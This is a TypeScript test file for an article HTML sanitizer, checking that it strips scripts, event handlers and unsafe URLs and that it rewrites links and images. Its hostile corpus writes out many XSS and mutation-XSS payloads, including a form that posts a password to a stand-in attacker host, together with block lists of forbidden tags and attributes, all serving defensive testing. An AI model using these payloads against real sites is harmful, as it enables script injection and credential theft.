import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { imageSources, LINK_REL, replaceImages, sanitizeArticleHtml } from '../../functions/core/article/sanitize';

const PAGE = 'https://news.example/2024/story.html';

/** A hostile corpus: each entry must come out with nothing that runs, loads or restyles. */
const HOSTILE: Record<string, string> = {
  script: '<p>a</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'script split by a comment': '<scr<!-- -->ipt>alert(1)</script>',
  onerror: '<img src="x.png" onerror="alert(1)">',
  'onerror without quotes, odd case': '<IMG SRC=x.png OnErRoR=alert(1)>',
  'svg script': '<svg><script>alert(1)</script><circle onload="alert(1)"/></svg>',
  'svg onload': '<svg onload=alert(1)>',
  'javascript: href': '<a href="javascript:alert(1)">x</a>',
  'javascript: href, entity-encoded': '<a href="&#106;avascript:alert(1)">x</a>',
  'javascript: href, hex entities and tab': '<a href="jav&#x09;ascript:alert(1)">x</a>',
  'javascript: href, leading spaces and case': '<a href="  JaVaScRiPt:alert(1)">x</a>',
  'vbscript: href': '<a href="vbscript:msgbox(1)">x</a>',
  'data: href': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'javascript: src': '<img src="javascript:alert(1)">',
  'data: html src': '<img src="data:text/html,<script>alert(1)</script>">',
  'javascript: in CSS':
    '<p style="background:url(javascript:alert(1))">x</p><div style="width:expression(alert(1))">y</div>',
  'style element': '<style>body{background:url("javascript:alert(1)")}</style><p>x</p>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>x</p>',
  'base href': '<base href="javascript:alert(1)//"><a href="x">x</a>',
  form: '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
  iframe: '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'object and embed': '<object data="evil.swf"></object><embed src="evil.swf">',
  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css"><p>x</p>',
  'mXSS: noscript title': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'mXSS: svg style': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'mXSS: math mglyph':
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'mXSS: nested forms': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'template content': '<template><img src=x onerror=alert(1)></template>',
  'textarea breakout': '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  'srcset and formaction': '<img srcset="javascript:alert(1) 1x"><button formaction=javascript:alert(1)>x</button>',
  'xlink href': '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'protocol-relative': '<a href="//evil.example/x">x</a>',
  'target blank': '<a href="https://ok.example" target="_blank">x</a>',
};

interface Element {
  readonly tagName: string;
  readonly attributes: ArrayLike<{ name: string; value: string }>;
}

/** Every element of the output, as a browser-like parser reads it back. */
function elements(html: string): Element[] {
  const { document } = parseHTML(`<!doctype html><html><body>${html}</body></html>`) as unknown as {
    document: { body: { querySelectorAll(s: string): Iterable<Element> } };
  };
  return [...document.body.querySelectorAll('*')];
}

const FORBIDDEN_TAGS = [
  'script',
  'style',
  'iframe',
  'form',
  'base',
  'meta',
  'link',
  'object',
  'embed',
  'svg',
  'math',
  'input',
  'button',
  'textarea',
  'template',
  'noscript',
];

describe('sanitizeArticleHtml: the hostile corpus', () => {
  for (const [name, hostile] of Object.entries(HOSTILE)) {
    it(`defuses ${name}`, () => {
      const output = sanitizeArticleHtml(hostile, PAGE);
      for (const element of elements(output)) {
        expect(FORBIDDEN_TAGS).not.toContain(element.tagName.toLowerCase());
        for (const { name: attribute, value } of Array.from(element.attributes)) {
          expect(attribute).not.toMatch(/^on|^style$|^srcset$|^formaction$|^target$|^xlink/i);
          if (attribute === 'href') expect(value).toMatch(/^(https?|mailto):/);
          if (attribute === 'src') expect(value).toMatch(/^(https?:|data:image\/)/);
        }
      }
      expect(output).not.toMatch(/javascript:|vbscript:|<script|onerror=|expression\(/i);
    });
  }

  it('links become absolute with rel="noopener noreferrer nofollow"', () => {
    const output = sanitizeArticleHtml(
      '<p><a href="/about">About</a> <a href="https://x.example/" rel="me">X</a></p>',
      PAGE,
    );
    expect(output).toBe(
      `<p><a href="https://news.example/about" rel="${LINK_REL}">About</a> <a rel="${LINK_REL}" href="https://x.example/">X</a></p>`,
    );
  });

  it('keeps data: images but not data: links', () => {
    const output = sanitizeArticleHtml(
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"><a href="data:image/png;base64,AA==">d</a>',
      PAGE,
    );
    expect(output).toBe('<img alt="dot" src="data:image/png;base64,iVBORw0KGgo=" /><a>d</a>');
  });

  it('keeps the text of unknown wrappers and drops the content of scripts, forms and frames', () => {
    expect(sanitizeArticleHtml('<center><font color=red>Hello</font></center><form>secret</form>', PAGE)).toBe('Hello');
  });

  it('keeps code blocks as written', () => {
    const code = '<pre><code>if (a &lt; b) {\n  return "x";\n}</code></pre>';
    expect(sanitizeArticleHtml(code, PAGE)).toBe(code);
  });
});

describe('article images', () => {
  const html = sanitizeArticleHtml(
    '<figure><img src="/a.png" alt="A"><figcaption>Cap A</figcaption></figure><img src="https://cdn.example/b.jpg"><img src="/a.png"><img src="data:image/gif;base64,R0lGOD">',
    PAGE,
  );

  it('lists distinct http(s) sources in order, up to a limit', () => {
    expect(imageSources(html, 20)).toEqual(['https://news.example/a.png', 'https://cdn.example/b.jpg']);
    expect(imageSources(html, 1)).toEqual(['https://news.example/a.png']);
  });

  it('points kept images at their copies and drops the others, captions kept', () => {
    const output = replaceImages(html, new Map([['https://news.example/a.png', 'https://gleaner.example/i/a.png']]));
    expect(output).toBe(
      '<figure><img alt="A" src="https://gleaner.example/i/a.png" /><figcaption>Cap A</figcaption></figure><img src="https://gleaner.example/i/a.png" />',
    );
  });
});
